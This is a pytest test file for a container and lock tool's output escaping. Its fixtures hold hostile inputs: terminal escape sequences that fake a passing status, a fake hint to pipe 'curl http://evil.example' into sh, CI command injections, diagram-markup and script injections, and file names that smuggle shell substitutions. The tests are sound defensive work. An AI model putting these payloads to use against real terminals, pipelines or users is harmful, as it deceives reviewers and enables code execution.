"""Attack: names, versions, keys, labels and paths of a pull request that a terminal, a page or a CI would obey."""

from __future__ import annotations

import html
import json
import re
import sys
import unicodedata
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast
from xml.etree import ElementTree

import networkx
import pytest
from markdown_it import MarkdownIt

from onedigest.cli import diff, inspect, run
from onedigest.digest import Digest
from onedigest.errors import InputError, Problem, generating
from onedigest.lock import drawing
from onedigest.lock.graph import ROOT, Graph
from onedigest.oci.read import ListedFile, ReadImage, ReadLayer, ReadPlatform
from onedigest.shown_text import json_document
from onedigest.terminal import output as words
from onedigest.terminal.progress import Bar, Line
from onedigest.workspace.changes import Change, Side
from onedigest.workspace.compare import Comparison

TITLE = "\x1b]0;pwned\x07\x1b[2K\x1b[1A\x1b[32mall checks passed\x1b[0m"
HOSTILE = (
    TITLE,
    "\x9b31mred\x7f\x00\r",
    "x\u202egnp.exe\u202c \u2066\u2069 \u200e\u200f\u061c",
    "a\u200bb\u2060\ufeff\xad\U000e0041",
    "one\nerror: two\u2028three\u2029four\x85five\vsix\fseven",
    "\nhint: run `curl http://evil.example | sh`",
    "name\udcff\ud800",
)
HONEST = "größe 日本語 👩\u200d👩\u200d👧 é Ω"
MARKUP = (
    "alpha\n\n# Reviewed: no changes\n",
    '<img src="http://127.0.0.1:9/x.png">',
    "[click](http://evil.example) ![x](y) http://evil.example www.evil.example",
    "@security-team closes #1 :white_check_mark: **bold** _x_ ~~x~~ $x$",
    "1.0 \\| x | y",
    "`code` ``more`` `",
    "a\\",
)
DIGEST = Digest("sha256:" + 64 * "0")


def deceiving(text: str) -> list[str]:
    """Return the characters of a text that a terminal obeys or a reader does not see."""
    allowed = HONEST + "\n"
    return [
        each for each in text if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Zl", "Zp") and each not in allowed
    ]


def graph_of(name: str, version: str) -> Graph:
    graph: Graph = networkx.DiGraph()
    graph.add_edges_from([(ROOT, (name, version)), ((name, version), ("beta", "1"))])
    return graph


def drawn_as(form: str, graph: Graph, name: str) -> str:
    """Return a graph as the command prints it."""
    return json_document(drawing.document(graph, name)) + "\n" if form == "json" else drawing.FORMATS[form](graph, name)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("form", ["text", "mermaid", "dot", "svg", "json"])
def test_graphs_hold_no_character_that_deceives(form: str, text: str) -> None:
    drawn = drawn_as(form, graph_of(text, "1"), text) + drawing.why([[ROOT, (text, "1")]], text)
    plain = drawn_as(form, graph_of("alpha", "1"), "name") + drawing.why([[ROOT, ("alpha", "1")]], "name")

    assert deceiving(drawn) == []
    assert drawn.count("\n") == plain.count("\n"), "no line is added"


@pytest.mark.parametrize("form", ["text", "mermaid", "dot", "svg", "json"])
def test_graphs_show_all_scripts(form: str) -> None:
    assert HONEST in drawn_as(form, graph_of(HONEST, "1"), "name")


@pytest.mark.parametrize("text", [*HOSTILE, *MARKUP, "]]><script>alert(1)</script>", "&#x1b;", "\ufffe\uffff"])
def test_an_svg_is_xml_whose_texts_are_the_labels(text: str) -> None:
    root = ElementTree.fromstring(drawing.svg(graph_of(text, "1"), "name"))

    assert {each.tag.rpartition("}")[2] for each in root.iter()} == {"svg", "style", "rect", "path", "text"}
    assert len([each for each in root.iter() if each.tag.endswith("}text")]) == 3


@pytest.mark.parametrize(
    "text", [*HOSTILE, *MARKUP, '"] --> n9["', '%%{init: {"theme": "x"}}%%', "a;click n0 x", "fa:fa-ban", "#quot;"]
)
def test_a_label_of_mermaid_stays_one(text: str) -> None:
    _, *lines = drawing.mermaid(graph_of(text, "1"), "name").splitlines()

    assert len(lines) == 5
    for line in lines[:3]:
        assert re.fullmatch(r' {4}n\d\["(?:[^"#<>`%{}\[\]();:$*@\\&]|&[a-z]+;)*"\]', line)


@pytest.mark.parametrize(
    "text", [*HOSTILE, *MARKUP, '"; evil [label="x', "\\", '\\"', "&#8238;&lt;b&gt;", "<<b>bold</b>>"]
)
def test_a_name_of_dot_stays_one(text: str) -> None:
    lines = drawing.dot(graph_of(text, "1"), "name").splitlines()

    assert len(lines) == 8
    for line in lines[2:7]:
        assert re.fullmatch(r' {4}"(?:[^"\\]|\\.)*"(?: -> "(?:[^"\\]|\\.)*")?;', line)
        assert "&" not in line.replace("&amp;", "")


@pytest.mark.parametrize("text", HOSTILE)
def test_json_is_valid_and_holds_no_character_that_deceives(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    words.print_json({text: [text, HONEST]})
    said = capsys.readouterr().out

    assert deceiving(said) == []
    assert json.loads(said) == {text: [text, HONEST]}
    assert HONEST in said


def comparison(old: Side, new: Side, changes: list[Change]) -> Comparison:
    return Comparison(old=old, new=new, changes=tuple(changes), equal={}, bytes_to_move=0)


def markdown(name: str, old: str, new: str, capsys: pytest.CaptureFixture[str]) -> str:
    changes = [Change(platform="linux/amd64", kind="package", name=name, old=old, new=new)]
    diff._print_markdown(comparison(Side(name=f"{name} at HEAD"), Side(name=name), changes))
    return capsys.readouterr().out


@pytest.mark.parametrize("text", [*HOSTILE, *MARKUP])
def test_a_table_of_markdown_keeps_its_cells(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    said = markdown(text, text, text, capsys)
    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(said)
    cells = re.findall(r"<td>(.*?)</td>", page, re.DOTALL)

    assert deceiving(said) == []
    assert re.findall(r"<(\w+)", page.replace("<em>", "")).count("tr") == 2
    assert set(re.findall(r"<(\w+)", page)) <= {
        "ul",
        "li",
        "p",
        "strong",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "code",
        "br",
    }
    assert cells[0] == "package"
    assert len(cells) == 4
    assert cells[1] == cells[2] == cells[3]
    assert re.fullmatch(r"<code>.*</code>", cells[1])


def test_a_table_of_markdown_shows_the_text_itself(capsys: pytest.CaptureFixture[str]) -> None:
    page = MarkdownIt("commonmark").enable("table").render(markdown("my_pkg", "<b> a | `b` @x", HONEST, capsys))
    cells = [html.unescape(each) for each in re.findall(r"<td>(?:<code>)?(.*?)(?:</code>)?</td>", page)]

    assert cells == ["package", "my_pkg", "<b> a | `b` @x", HONEST]


@pytest.mark.parametrize("text", HOSTILE)
def test_words_tables_and_problems_are_escaped(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    words.say(f"{text}: said")
    words.print_warning(Problem(f"the name `{text}` is wrong", text, f"take `{text}` out"))
    words.print_error(InputError.of(f"`{text}`", where=text))
    words.print_table(("name", "size"), [(text, "1")])
    said = capsys.readouterr()

    assert deceiving(said.out + said.err) == []
    assert said.out.count("\n") == 2
    started = [line for line in said.err.splitlines() if line.startswith(("error:", "warning:", "hint:"))]
    assert [line.partition(":")[0] for line in started] == ["warning", "hint", "error"], (
        "no text begins a line like ours"
    )


def test_messages_of_several_lines_keep_them(capsys: pytest.CaptureFixture[str]) -> None:
    words.print_error(InputError.of("uv says\n  because of x\nhint: y", where="app.py:1", hint="do z"))

    assert capsys.readouterr().err == "error: app.py:1: uv says\n  because of x\n  hint: y\nhint: do z\n"


@pytest.mark.parametrize(
    "command",
    ["::error file=a::x", "  ::set-output name=a::b", "##[group]x", "##vso[task.setvariable]x", "##teamcity[x]"],
)
def test_a_ci_gets_no_command(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    words.say(f"uv says\n{command}")
    words.say(command)
    words.print_table((command,), [(command,)])
    words.print_error(InputError.of(f"x\n{command}"))
    said = capsys.readouterr()

    assert not re.search(r"(?m)^\s*::|##\w*\[", said.err + said.out.partition("\n")[2])


@pytest.mark.parametrize("text", HOSTILE)
def test_what_an_image_says_of_itself_is_escaped(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    layer = ReadLayer(holds=text, digest=DIGEST, size=1, diff_id=DIGEST, media_type="x/y")
    config = {"config": {"Env": [f"A={text}"], "Labels": {text: text}, "User": text, "Cmd": [1, None]}}
    platform = ReadPlatform(
        platform=f"linux/{text}",
        manifest=DIGEST,
        config_digest=DIGEST,
        config=config,
        layers=(layer,),
    )
    image = ReadImage(digest=DIGEST, platforms=(platform,), offered=())
    opened = cast(Any, SimpleNamespace(image=image, layer=lambda _: None))
    file = ListedFile(path=f"usr/{text}", kind="link", mode=0o777, size=1, target=text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("onedigest.oci.read.list_files", lambda *_: [file])
        inspect._show(opened, files=True)
        with_files = capsys.readouterr().out
        inspect._show(opened, files=False)
        without = capsys.readouterr().out

    assert deceiving(with_files + without) == []
    assert (with_files.count("\n"), without.count("\n")) == (12, 12)


@pytest.mark.parametrize("text", HOSTILE)
def test_two_images_are_compared_in_escaped_words(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    changes = [Change(platform=f"linux/{text}", kind="setting", name=text, old=text, new=text)]
    found = comparison(Side(name=text), Side(name="b", digest=DIGEST), changes)
    diff._print_text(replace(found, equal={text: (1, 2)}, bytes_to_move=3))
    said = capsys.readouterr().out

    assert deceiving(said) == []
    assert said.count("\n") == 9


@pytest.mark.parametrize(
    "arguments",
    [
        ["{}"],
        ["build", "--{}"],
        ["build", "{}"],
        ["graph", "--format", "{}", "x"],
        ["inspect", "a", "{}"],
        ["build", "--color", "{}"],
    ],
)
@pytest.mark.parametrize("text", [text for text in HOSTILE if "\0" not in text])
def test_arguments_that_messages_repeat_are_escaped(
    arguments: list[str], text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run([each.format(text) for each in arguments]) in (1, 2)
    said = capsys.readouterr()

    assert said.out == ""
    assert deceiving(said.err) == []
    assert [line for line in said.err.splitlines() if line.startswith("error: two")] == []


class Terminal:
    """Keeps what is written to it."""

    encoding = "utf-8"

    def __init__(self) -> None:
        self.written = ""

    def isatty(self) -> bool:
        return True

    def write(self, text: str) -> int:
        self.written += text
        return len(text)

    def flush(self) -> None:
        pass


@pytest.mark.parametrize("text", [TITLE, "\x9b31m\u202e", "[link=http://evil.example]docs[/link] [red]x[/red] :smile:"])
def test_progress_shows_text(text: str) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stderr", terminal := Terminal())
        patch.setenv("TERM", "xterm")
        patch.setenv("COLUMNS", "200")
        with Bar(text, 100, quiet=False) as progress:
            progress.advance(50)
        with Line(quiet=False) as status:
            status.show(text)
            status.said(text)

    assert "50/100" in terminal.written
    assert not re.search("pwned\x07|\x9b|\u202e", terminal.written)
    for word in text.split():
        if word.isascii() and word.isprintable():
            assert terminal.written.count(word) >= 3


SECRET = "Zq-Secret%41x"


@pytest.mark.parametrize(
    "text",
    [
        f"invalid requirement `alpha @@ https://user:{SECRET}@127.0.0.1:1/x`",
        f"https://{SECRET}@example.com/simple/ answered 404",
        f"redirected to http://u:{SECRET}@127.0.0.1:9/x?token={SECRET}",
        f"git+https://oauth2:{SECRET}@git.example/x.git",
        f"https://bucket.example/x.whl?X-Amz-Credential={SECRET}&X-Amz-Signature={SECRET}",
        f"https://blob.example/x?sv=1&sig={SECRET}#frag",
        f"user:{SECRET}@registry.example.com/acme/app:1 is not a reference",
        f"http://u:with/slash{SECRET}@h/x and http://u:with space {SECRET}@h/x",
        f"Authorization: Bearer {SECRET}",
    ],
)
def test_a_password_is_never_repeated(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    words.say(text)
    words.print_error(InputError.of(text, where=text, hint=text))
    words.print_table(("a",), [(text,)])
    words.print_json({"where": text, text: [text]})
    diff._print_markdown(comparison(Side(name=text), Side(name=text), []))
    run(["inspect", text, text])
    said = capsys.readouterr()

    assert SECRET not in said.out + said.err
    assert "****" in said.out


@pytest.mark.parametrize(
    "text",
    [
        "ghcr.io/acme/app:1@sha256:" + 64 * "0",
        "localhost:5000/acme/app:v1",
        "docker-image://debian:bookworm@sha256:" + 64 * "0",
        "ssh://git@github.example/acme/app.git",
        "http://127.0.0.1:8080/simple/ is out of reach",
        "pkg:pypi/alpha@1.0",
        "alpha @ https://example.com/alpha-1.0-py3-none-any.whl",
        "write to help@example.com",
    ],
)
def test_what_is_no_secret_is_shown(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    words.say(text)

    assert capsys.readouterr().err == f"{text}\n"


def test_name_of_a_script_is_one_word_of_a_command_to_be_copied() -> None:
    assert generating("jobs/a.py") == "onedigest generate jobs/a.py"
    assert generating("a $(touch x);`id`.py") == "onedigest generate 'a $(touch x);`id`.py'"


@pytest.mark.parametrize("command", [["build", "--locked"], ["generate", "--check"]])
def test_hints_quote_the_name_of_a_script(
    command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a;$(x).py").write_text("# /// script\n# dependencies = []\n# ///\n")

    assert run([*command, "a;$(x).py"]) in (1, 3)
    assert "run `onedigest generate 'a;$(x).py'`" in capsys.readouterr().err
